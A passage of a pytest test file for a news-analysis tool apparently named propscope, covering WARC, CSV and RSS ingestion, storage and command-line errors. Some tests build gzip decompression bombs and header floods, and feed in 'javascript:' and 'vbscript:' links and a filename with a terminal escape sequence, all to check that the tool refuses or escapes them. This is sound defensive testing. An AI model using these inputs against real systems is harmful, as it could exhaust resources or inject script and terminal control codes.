        with pytest.raises(ValueError) as e:
            propscope.analyze(text)
        assert f"over the {DEFAULT_MAX_BYTES:,}-byte limit" in str(e.value) and "max_bytes=" in str(e.value)
    assert calls == []
    assert propscope.analyze("w" * DEFAULT_MAX_BYTES) == "analysed"
    assert propscope.analyze(wide, max_bytes=DEFAULT_MAX_BYTES + 2) == "analysed"
    for bad, error in ((0, ValueError), (True, TypeError), ("10", TypeError)):
        with pytest.raises(error, match="max_bytes"):
            propscope.analyze("A story.", max_bytes=bad)
    with pytest.raises(ValueError, match="article 'b'.*-byte limit"):
        propscope.find_reuse([Article("a", "A story."), Article("b", wide)])


def _raw_response(uri: str, block: bytes) -> bytes:
    """One WARC response record holding ``block`` as written, whatever it holds (warcio's writer
    parses the HTTP head it is given and refuses a damaged one)."""
    return (f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {uri}\r\nWARC-Date: 2026-01-02T03:04:05Z\r\n"
            f"WARC-Record-ID: <urn:uuid:{hash(uri) & 0xFFFFFFFF:08x}-0000-4000-8000-000000000000>\r\n"
            f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(block)}\r\n\r\n"
            ).encode() + block + b"\r\n\r\n"


@pytest.mark.parametrize("gz", [False, True])
def test_responses_without_a_readable_http_status_are_counted_in_one_note(tmp_path, gz):
    """A response whose HTTP head has no status code ('HTTP/1.1 OK', an empty head, the page's
    own markup where the head should be) was passed over as a non-2xx answer is: its page was lost
    without a word. They are counted and named in one note; the other records are read, and an
    archive of nothing else is a rejected input."""
    def page(name: str) -> bytes:
        return PAGE.format(t=name).encode()

    ok = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
    records = [(ok, "Harbour"), (b"HTTP/1.1 OK\r\nContent-Type: text/html\r\n\r\n", "Nocode"),
               (b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\n\r\n", "Missing"), (b"\r\n\r\n", "Headless"),
               (b"", "Bare"), (ok, "Railway")]
    raw = [_raw_response(f"https://news.example/{t.lower()}", head + page(t)) for head, t in records]
    p = tmp_path / ("mixed.warc.gz" if gz else "mixed.warc")
    p.write_bytes(b"".join(gzip.compress(r) if gz else r for r in raw))
    items = list(read_inputs([str(p)]))
    assert [a.title for a in items if isinstance(a, Article)] == ["Harbour", "Railway"]
    [note] = [str(i) for i in items if not isinstance(i, Article)]
    assert note.startswith(f"{p}: 3 HTTP responses not read") and "records 2, 4 and 5" in note, note
    db = tmp_path / "s.db"
    r = cli("ingest", p, "--db", db, "--format", "json")
    assert r.exit_code == 0 and summary(r)["new"] == 2 and r.stderr.count("\n") == 1 and "note:" in r.stderr, r.output
    lost = tmp_path / ("lost.warc.gz" if gz else "lost.warc")
    lost.write_bytes(b"".join(gzip.compress(r) if gz else r for r in (raw[1], raw[3])))
    r = cli("ingest", lost, "--db", db, "--format", "json")
    assert r.exit_code == 1 and "2 HTTP responses not read" in r.stderr and "records 1 and 2" in r.stderr, r.output
    assert Store(f"sqlite:///{db}").count_articles() == 2


def _deflated_member(head: bytes, filler: bytes, size: int) -> bytes:
    """One gzip member of ``head`` and ``size`` bytes of ``filler``, compressed a megabyte at a
    time: a small file that inflates far."""
    import zlib

    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = (filler * ((1 << 20) // len(filler) + 1))[:1 << 20]
    return z.compress(head) + b"".join(z.compress(block) for _ in range(size >> 20)) + z.flush()


def _one_page_member(name: str) -> bytes:
    return gzip.compress(_raw_response(f"https://news.example/{name}", b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
                                       + PAGE.format(t=name).encode()))


@pytest.mark.parametrize("filler", [b"x", b"\r\n"])
def test_a_warc_header_line_or_blank_run_without_end_is_refused_at_a_bound(tmp_path, monkeypatch, filler):
    """warcio joins the pieces of a header line until a line break, and skips blank lines between
    records one by one: a 2 MB .warc.gz whose header line inflates to 2 GB ran past 4 minutes and
    4 GB of memory, and 2 GB of line breaks would take hours. Either is now one damaged record at a
    bound, and the records after it are read."""
    monkeypatch.setattr(warc, "WARC_LINE_LIMIT", 1 << 16)
    head = b"WARC/1.0\r\nWARC-Type: response\r\nX-Note: " if filler == b"x" else \
        _raw_response("https://news.example/ok", b"HTTP/1.1 204 No Content\r\n\r\n")
    p = tmp_path / "flood.warc.gz"
    p.write_bytes(_one_page_member("Before") + _deflated_member(head, filler, 8 << 20) + _one_page_member("After"))
    items = list(read_inputs([str(p)]))
    assert [a.title for a in items if isinstance(a, Article)] == ["Before", "After"], items
    [bad] = [i for i in items if isinstance(i, Rejected)]
    what = "a line over 65,536 bytes" if filler == b"x" else "over 65,536 bytes of blank lines"
    assert bad.source == f"{p}#2" and what in bad.reason and "record 3 at byte" in bad.reason, bad


def test_a_warc_page_whose_target_is_no_web_address_is_read_without_that_url(tmp_path):
    """A resource record naming 'javascript:alert(1)' (or data:, file:) as its target stored that as
    its article's URL, and `export` handed it on as the article's link."""
    page = PAGE.format(t="Scripted").encode()
    def resource(uri: str) -> bytes:
        return (f"WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: {uri}\r\nContent-Type: text/html\r\n"
                f"Content-Length: {len(page)}\r\n\r\n").encode() + page + b"\r\n\r\n"
    p = tmp_path / "odd.warc"
    p.write_bytes(resource("javascript:alert(1)") + resource("data:text/html,x") + resource("HTTPS://news.example/a"))
    items = list(read_inputs([str(p)]))
    assert [(type(i), i.url) for i in items] == [(Article, None), (Article, None), (Article, "HTTPS://news.example/a")]
    assert all(i.title == "Scripted" for i in items)


@pytest.mark.parametrize("where", ["warc", "http"])
def test_a_warc_head_of_endless_short_header_lines_is_refused_at_a_bound(tmp_path, monkeypatch, where):
    """Each header line under the line bound, but millions of them: a 918 KB .warc.gz of 600 MB of
    'X: y' lines ran past 5 minutes and 4.3 GB, and in an HTTP head the record was then stored as a
    page. A record's head (WARC or HTTP) over its bound is one damaged record; the rest are read."""
    monkeypatch.setattr(warc, "WARC_HEAD_LIMIT", 1 << 16)
    opening = b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://news.example/flood\r\n"
    if where == "http":
        opening = _raw_response("https://news.example/flood", b"")[:-4].replace(
            b"Content-Length: 0", b"Content-Length: %d" % (4 << 20)) + b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
    p = tmp_path / "heads.warc.gz"
    p.write_bytes(_one_page_member("Before") + _deflated_member(opening, b"X-Filler: y\r\n", 4 << 20)
                  + _one_page_member("After"))
    items = list(read_inputs([str(p)]))
    assert [a.title for a in items if isinstance(a, Article)] == ["Before", "After"], items
    [bad] = [i for i in items if isinstance(i, Rejected)]
    assert bad.source == f"{p}#2" and "over 65,536 bytes of header lines" in bad.reason, bad


def test_a_chunked_page_of_many_chunks_is_no_endless_head(tmp_path, monkeypatch):
    """The bound on a head counts header lines only: the size lines of a chunked page are read by
    line too, between its chunks, and must not add up to a head."""
    monkeypatch.setattr(warc, "WARC_HEAD_LIMIT", 256)
    body = PAGE.format(t="Chunked").encode()
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 2]), body[i:i + 2]) for i in range(0, len(body), 2))
    block = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks + b"0\r\n\r\n"
    assert len(re.findall(rb"\n[0-9a-f]+\r\n", chunks)) * 3 > 256
    p = tmp_path / "chunked.warc"
    p.write_bytes(_raw_response("https://news.example/chunked", block))
    items = list(read_inputs([str(p)]))
    assert [a.title for a in items] == ["Chunked"], items


@pytest.mark.parametrize("last", [False, True])
def test_a_warc_record_that_inflates_hundreds_of_times_is_refused_at_a_bound(tmp_path, monkeypatch, last):
    """A record that is no page was inflated to its end however far that was: a 2 MB .warc.gz
    record of 2 GB of zeros took 31 s and was passed over without a word, and each further
    megabyte of such a file costs a gigabyte more. Past the page limit, a record inflating over
    200 times its compressed size is one damaged record, read no further."""
    import time

    monkeypatch.setattr(warc, "WARC_PAGE_LIMIT", 1_000_000)
    size = 64 << 20
    head = (f"WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: https://news.example/disk.img\r\n"
            f"WARC-Date: 2026-01-02T03:04:05Z\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-00000000000b>\r\n"
            f"Content-Type: application/octet-stream\r\nContent-Length: {size}\r\n\r\n").encode()
    bomb = _deflated_member(head, b"\0", size)
    p = tmp_path / "bomb.warc.gz"
    p.write_bytes(_one_page_member("Before") + bomb + (b"" if last else _one_page_member("After")))
    began = time.monotonic()
    items = list(read_inputs([str(p)]))
    assert [a.title for a in items if isinstance(a, Article)] == ["Before"] + ([] if last else ["After"]), items
    [bad] = [i for i in items if isinstance(i, Rejected)]
    assert bad.source == f"{p}#2" and "over 200 times its" in bad.reason, bad
    assert time.monotonic() - began < 5


def test_the_api_refuses_a_reversed_date_range_as_the_pages_do(client):
    """/api/articles and /api/sources answered a from date after the until date with an empty
    list (200), where the pages, their downloads and the command line say nothing can match."""
    for path in ("/api/articles", "/api/sources"):
        r = client.get(path, params={"since": "2021-06-01", "until": "2021-03-31"})
        assert r.status_code == 422 and "2021-06-01) is after the until date (2021-03-31)" in r.text, (path, r.text)
        assert r.json()["detail"][0]["loc"] == ["query", "since"]
        assert client.get(path, params={"since": "2021-03-31", "until": "2021-03-31"}).status_code == 200


@pytest.mark.parametrize("value", ["0000-01", "\uff12\uff10\uff12\uff11-\uff10\uff11", "20210101", "2021-W01-1"])
def test_a_page_date_filter_is_yyyy_mm_dd_or_yyyy_mm_in_ascii_digits_as_on_the_command_line(client, value):
    """The pages took a year 0 month for Python's own words ("year 0 is out of range", naming no
    field), fullwidth digits as a month, and ISO's basic and week forms the command line refuses."""
    r = client.get("/dashboard/techniques.csv", params={"since": value})
    assert r.status_code == 400 and r.json()["detail"] == f"not a date (YYYY-MM-DD or YYYY-MM): {value!r}", r.text
    page = client.get("/dashboard", params={"since": value})
    assert page.status_code == 200 and "not a date (YYYY-MM-DD or YYYY-MM)" in page.text


def test_an_article_note_or_batch_failure_line_shows_its_id_escaped(tmp_path, monkeypatch):
    """The note after each analysed article (the ngram model's caveat) and `batch`'s failure lines
    printed the id as it was: a file named with a line break split the line in two, and one named
    with a terminal escape sequence recoloured or cleared the user's terminal."""
    from propscope import batch as runner

    name = "harbour\n\x1b[2Jstory"
    (tmp_path / f"{name}.txt").write_text("The council said the harbour strike would end on Monday.")
    r = CliRunner().invoke(main, ["analyze", str(tmp_path / f"{name}.txt"), "--model", "ngram"])
    notes = [line for line in r.stderr.splitlines() if "paragraph labels" in line]
    assert r.exit_code == 0 and notes and all(line.startswith("propscope: harbour\\n\\x1b[2Jstory: ") for line in notes)
    assert "\x1b" not in r.stderr, r.stderr

    class Quiet:
        def close(self):
            pass

    failed = [{"id": name, "stage": "techniques", "error": "RuntimeError: bad\rbyte", "partition": "part-00000.jsonl"}]
    monkeypatch.setattr(runner, "make_client", lambda *a, **k: Quiet())
    monkeypatch.setattr(runner, "run", lambda *a, **k: batch.BatchResult(1, 0, 1, 0.1, {}, [], failed))
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"id": name, "text": "Some text."}) + "\n")
    r = CliRunner().invoke(main, ["batch", str(src), "--output", str(tmp_path / "out"), "--model", "ngram"])
    assert r.exit_code == 1, r.output
    assert "propscope: harbour\\n\\x1b[2Jstory: techniques failed (RuntimeError: bad\\rbyte)" in r.stderr
    assert "\x1b" not in r.stderr and "\r" not in r.stderr, r.stderr


@pytest.mark.parametrize("command", [["ingest", "STORY"], ["report"], ["search", "harbour"], ["export"]])
@pytest.mark.parametrize("name", ["cycle", "overlong", "cycle-url", "overlong-url", "home-of-nobody"])
def test_a_store_name_the_file_system_cannot_look_up_is_one_line(tmp_path, monkeypatch, command, name):
    """A --db that is a link leading back to itself, a name past the file system's 255 bytes, or
    `~user/` of a user who does not exist was a RuntimeError or OSError traceback from every
    command that opens a store; as a plain path or a sqlite:/// URL alike, it is one line now."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "story.txt").write_text("A story about the harbour.")
    (tmp_path / "cycle").symlink_to("cycle")
    where = {"cycle": "cycle", "overlong": "s" * 4000 + ".db", "cycle-url": f"sqlite:///{tmp_path / 'cycle'}",
             "overlong-url": f"sqlite:///{tmp_path / ('s' * 4000)}", "home-of-nobody": "~no-such-user-q7/x.db"}[name]
    args = ["story.txt" if a == "STORY" else a for a in command]
    r = CliRunner().invoke(main, [*args, "--db", where])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.exception
    line, = r.stderr.strip().splitlines()
    assert line.startswith("propscope: cannot open database ") and line.endswith("check --db or $PROPSCOPE_DB")
    assert len(line) < 500 and sorted(p.name for p in tmp_path.iterdir()) == ["cycle", "story.txt"]


def _spoil_model(folder: Path, how: str) -> None:
    """Damage a copied model folder the way a cut-short copy or a stray edit does."""
    config = folder / "config.json"
    if how == "config no json":
        config.write_text("{\"name\": \"tiny\", ")
    elif how == "config a list":
        config.write_text("[\"tiny\"]")
    elif how == "config without labels":
        config.write_text(json.dumps({k: v for k, v in json.loads(config.read_text()).items() if k != "labels"}))
    elif how == "config a folder":
        config.unlink()
        config.mkdir()
    else:  # weights cut short at the tail or in the header
        weights = folder / "adapter.safetensors"
        data = weights.read_bytes()
        weights.write_bytes(data[:-500] if how == "weights cut short" else data[:6])


@pytest.mark.parametrize("how", ["config no json", "config a list", "config without labels", "config a folder",
                                 "weights cut short", "weights header cut"])
def test_a_damaged_model_folder_is_one_line_before_any_work(tmp_path, tiny_model, monkeypatch, how):
    """A model folder whose config.json is no model's settings, or whose weights file was cut short,
    was a JSONDecodeError, TypeError or SafetensorError traceback from analyze, serve, batch and
    `propscope models`, and `batch` met it on every worker; it is one line naming the folder and the
    file now, before any input is read or any cluster starts."""
    import shutil

    folder = tmp_path / "models" / "broken"
    shutil.copytree(tiny_model, folder)
    _spoil_model(folder, how)
    (tmp_path / "story.txt").write_text("A story about the harbour.")
    for args in (["analyze", tmp_path / "story.txt"], ["batch", tmp_path / "story.txt", "-o", tmp_path / "out"],
                 ["serve", "--port", "0"]):
        r = CliRunner().invoke(main, [*map(str, args), "--model", str(folder)])
        assert r.exit_code == 1 and isinstance(r.exception, SystemExit), (args, r.exception)
        line, = r.stderr.strip().splitlines()
        assert f"model folder {folder} is damaged: " in line and "copy the model folder again" in line
        assert not (tmp_path / "out").exists()
    if how.startswith("weights"):  # `propscope models` reads only the settings
        return
    shutil.copytree(tiny_model, tmp_path / "models" / "whole")
    monkeypatch.setenv("PROPSCOPE_MODELS", str(tmp_path / "models"))
    listed = CliRunner().invoke(main, ["models"])
    assert listed.exit_code == 1 and listed.stdout.startswith("whole: base minilm, 14 techniques")
    assert "model folder" in listed.stderr and "broken is damaged" in listed.stderr


def test_a_model_name_longer_than_a_file_name_may_be_is_unknown_not_a_traceback(tmp_path):
    """`--model` of 4,000 characters (a pasted text) was an OSError traceback ("File name too
    long") from the check for a model folder; it is an unknown model, shortened in its line."""
    (tmp_path / "story.txt").write_text("A story about the harbour.")
    r = CliRunner().invoke(main, ["analyze", str(tmp_path / "story.txt"), "--model", "m" * 4000])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.exception
    line, = r.stderr.strip().splitlines()
    assert line.startswith("propscope: no model named 'mmm") and "...mmm" in line and len(line) < 600


@pytest.mark.parametrize("count", ["0", "-3"])
def test_train_ngram_takes_only_a_positive_article_limit(tmp_path, count):
    """`train-ngram --limit-articles -3` trained on all articles but the last three of each
    language (a Python slice), and 0 on all of them, in silence; `train` refused both. Both are
    usage errors now, before any data is read or the output folder made."""
    r = CliRunner().invoke(main, ["train-ngram", "--limit-articles", count, "--data", str(tmp_path),
                                  "--out", str(tmp_path / "out")])
    assert r.exit_code == 2 and "--limit-articles" in r.stderr and "x>=1" in r.stderr
    assert not (tmp_path / "out").exists()


def test_a_store_whose_making_fails_half_way_is_made_whole_by_the_next_run(tmp_path, monkeypatch):
    """Python's sqlite3 commits each CREATE TABLE on its own, so a disk that filled up while a new
    store's tables were made (or an upgrade cut short) left some tables and no schema version;
    every later command then said "table articles already exists (another program's tables are
    there ...)" of propscope's own store. The schema is made in one transaction now: a failure
    leaves no table, and the next run makes the store whole."""
    import sqlalchemy as sa

    from propscope import store as store_module
    from propscope.store import StoreError

    real_engine = store_module._engine

    def filling_up(url, read_only_uri=None):
        engine = real_engine(url, read_only_uri)

        @sa.event.listens_for(engine, "before_cursor_execute")
        def _full(conn, cursor, statement, *args):
            if "CREATE TABLE topics" in statement:
                raise sa.exc.OperationalError(statement, (), Exception("database or disk is full"))

        return engine

    where = tmp_path / "new.db"
    monkeypatch.setattr(store_module, "_engine", filling_up)
    with pytest.raises(StoreError, match="disk is full"):
        Store(str(where))
    with sa.create_engine(f"sqlite:///{where}").connect() as conn:
        assert not sa.inspect(conn).get_table_names()
    monkeypatch.setattr(store_module, "_engine", real_engine)
    (tmp_path / "story.txt").write_text("A story about the harbour, stored once the disk had room again.")
    r = CliRunner().invoke(main, ["ingest", str(tmp_path / "story.txt"), "--db", str(where)])
    assert r.exit_code == 0, r.stderr
    assert Store(str(where)).count_articles() == 1


@pytest.mark.parametrize("token", [" ", "s3cret\n", " s3cret", "s3c\tret"])
@pytest.mark.parametrize("how", ["option", "environment"])
def test_serve_refuses_a_write_token_no_request_can_send(monkeypatch, token, how):
    """HTTP strips the spaces around a header value and cannot carry a line break, so a blank or
    padded token (a secret pasted with its newline) made a server on every interface whose writes no
    client could ever make; it is a usage error before anything listens or loads."""
    import uvicorn

    monkeypatch.setattr(uvicorn, "run", lambda *a, **k: pytest.fail("listened with an unusable token"))
    args = ["serve", "--host", "0.0.0.0", "--port", "0"]
    if how == "option":
        args += ["--token", token]
    else:
        monkeypatch.setenv("PROPSCOPE_TOKEN", token)
    r = CliRunner().invoke(main, args)
    assert r.exit_code == 2 and "--token" in r.stderr and "Authorization header" in r.stderr


def test_a_record_link_that_is_no_web_address_is_neither_an_identity_nor_a_link(db_url, tmp_path):
    """Records of a CSV or JSON Lines export whose ``url`` is no http(s) address with a host (a
    placeholder a CMS writes for every row, a script, a local file, a path without its site) were
    stored with it as their URL: the store took rows sharing one placeholder for one article and
    dropped the later texts as "already there" (exit 0), and `export` handed the value on as a
    link. Each record is stored, its value kept in the metadata, and one note per file says so."""
    placeholders = ["#", "#", "about:blank", "about:blank", "vbscript:msgbox(1)", "file:///home/me/a.html",
                    "news/story.html", "https://", "http://host:0/x"]
    rows = [{"url": u, "text": f"Story {n} of the export, with words of its own: {'abcdefghijklm'[n]}."}
            for n, u in enumerate(placeholders)]
    rows.append({"url": "HTTPS://Good.example/story", "text": "The only story with a real address."})
    with open(tmp_path / "cms.csv", "w", newline="") as f:
        csv.DictWriter(f, ["url", "text"]).writeheader()
        csv.DictWriter(f, ["url", "text"]).writerows(rows[:5])
    (tmp_path / "cms.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows[5:]))
    feed = ('<rss version="2.0"><channel><title>t</title>' + "".join(
        f"<item><title>{k}</title><link>{link}</link><description>Entry {k} says something else.</description></item>"
        for k, link in enumerate(["vbscript:msgbox(1)", "vbscript:msgbox(1)"])) + "</channel></rss>")
    (tmp_path / "site.rss").write_text(feed)
    r = cli("ingest", tmp_path / "cms.csv", tmp_path / "cms.jsonl", tmp_path / "site.rss", "--db", db_url, "--format",
            "json")
    assert r.exit_code == 0 and summary(r) == {"new": 12, "duplicates": 0, "rejected": 0}, r.output
    notes = [line for line in r.stderr.splitlines() if "no web address" in line]
    assert len(notes) == 2 and any("cms.csv: 5 records" in n for n in notes) and any("cms.jsonl: 4" in n for n in notes)
    kept = list(Store(db_url).iter_articles())
    assert [a.url for a in kept if a.url] == ["HTTPS://Good.example/story"]
    assert sorted(a.meta["given_url"] for a in kept if "given_url" in a.meta) == sorted(placeholders)


def _serve_once_each(answer: bytes | None) -> tuple[socket.socket, str]:
    """A TCP server on a free loopback port that answers each connection with ``answer`` after
    reading what the client sent (None: says nothing and keeps the connection open)."""
    server = socket.create_server(("127.0.0.1", 0))
    held = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            held.append(conn)
            if answer is not None:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    conn.recv(65536)
                    conn.sendall(answer)

    threading.Thread(target=serve, daemon=True).start()
    return server, f"tcp://127.0.0.1:{server.getsockname()[1]}"


def test_a_scheduler_address_that_is_no_dask_scheduler_is_one_line_within_seconds(tmp_path, monkeypatch):
    """`batch --scheduler` and `reuse --scheduler` with an address that cannot be one (an octet
    over 255, a port past 65535 or none, no host) or a port nothing listens on waited Dask's 30 s
    connection timeout; a port where another server answers (a web server, the dashboard) was a
    MemoryError or struct.error traceback, and one that accepts and stays silent held the command
    for good. Each is one line now, as soon as the address is read or within the wait allowed."""
    monkeypatch.setattr(batch, "SCHEDULER_CONNECT_S", 0.5)
    (tmp_path / "a.txt").write_text("A story about a harbour.")
    for address, says in [("tcp://300.2.3.4:8786", "is no IPv4 address"), ("tcp://example.org:70000", "port from 1"),
                          ("tcp://example.org", "port from 1"), ("tcp://:8786", "port from 1"),
                          ("tcp://example.org:8786/path", "no scheduler address")]:
        with pytest.raises(ValueError, match=says):
            batch.reachable(address)
    closed = socket.create_server(("127.0.0.1", 0))
    nobody = f"tcp://127.0.0.1:{closed.getsockname()[1]}"
    closed.close()
    web, web_address = _serve_once_each(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")
    garbled, garbled_address = _serve_once_each(b"\x01" + b"\x00" * 7 + b"\x05" + b"\x00" * 7 + b"xy")
    silent, silent_address = _serve_once_each(None)
    try:
        for address, says in [(nobody, "Connection refused"), (web_address, "not as a Dask scheduler"),
                              (garbled_address, "not as a Dask scheduler"), (silent_address, "within 1 s")]:
            started = time.monotonic()
            r = CliRunner().invoke(main, ["batch", str(tmp_path / "a.txt"), "-o", str(tmp_path / "out"),
                                          "--scheduler", address])
            assert r.exit_code == 1 and isinstance(r.exception, SystemExit), (address, r.exception)
            assert r.stderr.count("\n") == 1 and says in r.stderr, r.stderr
            assert time.monotonic() - started < 10
        r = CliRunner().invoke(main, ["reuse", str(tmp_path / "a.txt"), "--scheduler", web_address])
        assert r.exit_code == 1 and "not as a Dask scheduler" in r.stderr and isinstance(r.exception, SystemExit)
    finally:
        for server in (web, garbled, silent):
            server.close()


def test_the_output_file_never_replaces_an_input(tmp_path, monkeypatch):
    """-o naming an input (by its name, a link to it or a hard link) wrote the report over the
    article, exit 0; -o naming a file an input folder holds read it as an article, then replaced
    it (a rerun analysed its own last report); -o naming a link that leads back to itself
    replaced the link. Each is refused before any work, and every input file is left as it was."""
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "desk"
    folder.mkdir()
    (folder / "one.txt").write_text("The first story, about a ferry that never sailed.")
    (folder / "two.html").write_text(PAGE.format(t="Second story"))
    (tmp_path / "alias.txt").symlink_to(folder / "one.txt")
    os.link(folder / "two.html", tmp_path / "twin.html")
    (tmp_path / "circle").symlink_to("circle")
    before = {p: p.read_bytes() for p in folder.iterdir()}
    cases = [("analyze", [folder / "one.txt"], folder / "one.txt", "names the input"),
             ("analyze", [tmp_path / "alias.txt"], folder / "one.txt", "names the input"),
             ("reuse", [tmp_path / "twin.html", tmp_path / "alias.txt"], folder / "two.html", "names the input"),
             ("analyze", [folder], folder / "two.html", "is a file in the input folder"),
             ("reuse", [folder], folder / "nested" / ".." / "one.txt", "is a file in the input folder"),
             ("analyze", [folder], "circle", "leads back to itself")]
    for command, inputs, output, says in cases:
        r = CliRunner().invoke(main, [command, *map(str, inputs), "-o", str(output), "--model", "ngram"]
                               if command == "analyze" else [command, *map(str, inputs), "-o", str(output)])
        assert r.exit_code in (1, 2) and isinstance(r.exception, SystemExit), (command, output, r.exception)
        assert says in r.stderr and "Traceback" not in r.stderr, r.stderr
        assert {p: p.read_bytes() for p in folder.iterdir()} == before and (tmp_path / "circle").is_symlink()
    # a report written into the folder it read is refused on the next run; propscope's own JSON there is skipped
    (folder / "analyses.jsonl").write_text(json.dumps({"article": {"id": "one", "text": "x"}, "spans": []}) + "\n")
    r = CliRunner().invoke(main, ["reuse", str(folder), "-o", str(folder / "analyses.jsonl"), "--format", "json"])
    assert r.exit_code == 0 and "holds propscope's own analyses" in r.stderr and "clusters" in (
        folder / "analyses.jsonl").read_text()


def test_the_output_file_never_replaces_the_store(tmp_path, monkeypatch):
    """``export --db s.db -o s.db`` (a slip for ``-o s.jsonl``) moved the export over the store,
    exit 0: every article and analysis was gone and the next command said "file is not a
    database". -o naming the store (by any name: a link, a relative path) or its journal is
    refused before anything is written; ``analyze --db ... -o FILE`` left FILE unwritten, exit 0,
    and is a usage error too."""
    monkeypatch.chdir(tmp_path)
    story = tmp_path / "story.txt"
    story.write_text("A story about a bridge that was never built, told twice. " * 8)
    assert cli("ingest", story, "--db", "s.db").exit_code == 0
    (tmp_path / "alias.db").symlink_to("s.db")

    def stored() -> list:  # the rows, not the bytes: a later open may checkpoint the journal into the header
        import sqlite3

        with contextlib.closing(sqlite3.connect(tmp_path / "s.db")) as con:
            return con.execute("select id, text from articles").fetchall()

    before = stored()
    assert len(before) == 1
    (tmp_path / "s.db-journal").write_bytes(b"")  # a rollback journal left beside it
    cases = [("export", "s.db", "s.db"), ("export", "s.db", "./sub/../s.db"), ("export", "alias.db", "s.db"),
             ("export", "s.db", "alias.db"), ("export", f"sqlite:///{tmp_path / 's.db'}", "s.db"),
             ("export", "s.db", "s.db-journal"), ("reuse", "s.db", "s.db"), ("analyze", "s.db", "s.db"),
             ("analyze", "s.db", "report.txt")]
    (tmp_path / "sub").mkdir()
    for command, db, output in cases:
        r = CliRunner().invoke(main, [command, "--db", db, "-o", output])
        assert r.exit_code == 2 and isinstance(r.exception, SystemExit), (command, db, output, r.output)
        assert ("which the output would replace" in r.stderr or "-o is not written" in r.stderr), r.stderr
        assert stored() == before and (tmp_path / "alias.db").is_symlink()
    assert not (tmp_path / "report.txt").exists()
    r = cli("export", "--db", "s.db", "-o", "s.jsonl")
    assert r.exit_code == 0 and (tmp_path / "s.jsonl").exists()
    assert cli("search", "--db", "s.db", "bridge").exit_code == 0


def _two_analysed_articles(path: Path, titled: bool = False) -> None:
    """A SQLite store at ``path`` with articles 'a' and 'b' analysed, closed, for a test to damage
    with sqlite3 (titled: each with a title and the outlet "Daily Post")."""
    s = Store(f"sqlite:///{path}")
    texts = {n: f"Story {n}: the council closed the harbour bridge again. " * 6 for n in ("a", "b")}
    extra = (lambda n: {"title": f"Title {n}", "outlet": "Daily Post"}) if titled else (lambda n: {})
    s.add_articles([Article(n, t, **extra(n)) for n, t in texts.items()])
    s.save_analyses([(s.pk_of(n), fake_analysis(Article(n, t))) for n, t in texts.items()])
    s.engine.dispose()


def test_a_stored_value_its_column_cannot_read_is_damage_in_one_line(tmp_path, monkeypatch):
    """A zeroed overflow page handed `export` an analysis time of NUL bytes (``PRAGMA
    integrity_check`` still said ok): a ValueError traceback ("Invalid isoformat string"), and
    the web app's pages a bare 500. Such a value is the store's damage: one line, exit 1, 503."""
    import sqlite3

    monkeypatch.chdir(tmp_path)
    _two_analysed_articles(tmp_path / "s.db")
    with contextlib.closing(sqlite3.connect(tmp_path / "s.db")) as con, con:
        con.execute("update articles set published = ? where id = 'b'", ("2020-99-x",))
        con.execute("update analyses set analyzed_at = ?", ("\0" * 26,))
    for args in (["export"], ["report"], ["export", "--format", "label-studio"]):
        r = CliRunner().invoke(main, [*args, "--db", "s.db"])
        assert r.exit_code == 1 and isinstance(r.exception, SystemExit), (args, r.exception)
        assert re.search("a stored date( and time)? cannot be read", r.stderr), r.stderr
        assert "damaged" in r.stderr and len(r.stderr.splitlines()) == 1
    with TestClient(create_app(db=str(tmp_path / "s.db"), model="ngram"), raise_server_exceptions=False) as c:
        r = c.get("/api/articles")
        assert r.status_code == 503 and "a stored date cannot be read: '2020-99-x'" in r.json()["detail"]
        assert c.get("/api/articles", params={"outlet": "nowhere"}).status_code != 500


def test_bytes_another_program_wrote_into_a_text_column_are_read_as_text(tmp_path, monkeypatch):
    """SQLite keeps a BLOB in any column: ``update articles set title = x'ff00'`` by another program made
    `report` a traceback ("'int' object has no attribute 'isprintable'"), `export` one ("bytes is not JSON
    serializable") and the web app's article list a 500. The bytes are read as UTF-8, U+FFFD for what is
    not; the article is still listed and exported, the damage there to see."""
    import sqlite3

    monkeypatch.chdir(tmp_path)
    _two_analysed_articles(tmp_path / "s.db", titled=True)
    with contextlib.closing(sqlite3.connect(tmp_path / "s.db")) as con, con:
        con.execute("update articles set title = x'ff00c3', outlet = x'4461696c79ff' where id = 'b'")
    for args in (["report"], ["export", "-o", "out.jsonl"], ["search", "bridge"]):
        r = CliRunner().invoke(main, [*args, "--db", "s.db"])
        assert r.exit_code == 0 and r.exception is None, (args, r.exception)
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert {row["id"]: row["article"]["title"] for row in rows} == {"a": "Title a", "b": "\ufffd\x00\ufffd"}
    with TestClient(create_app(db=str(tmp_path / "s.db"), model="ngram"), raise_server_exceptions=False) as c:
        r = c.get("/api/articles")
        assert r.status_code == 200 and {a["outlet"] for a in r.json()["articles"]} >= {"Daily\ufffd"}
        assert c.get("/").status_code == 200


def test_a_stored_date_is_damage_wherever_the_database_library_reads_it(tmp_path, monkeypatch):
    """A stored value its column cannot read was told from a bug by the file of the traceback's
    last frame (``sqlalchemy/engine/...processors``): SQLAlchemy 2.0's compiled readers live in
    ``sqlalchemy/cyextension/processors.pyx``, where a date of NUL bytes was a traceback again.
    Propscope's own date columns say so themselves, whoever reads the text."""
    import datetime as dt
    import sqlite3

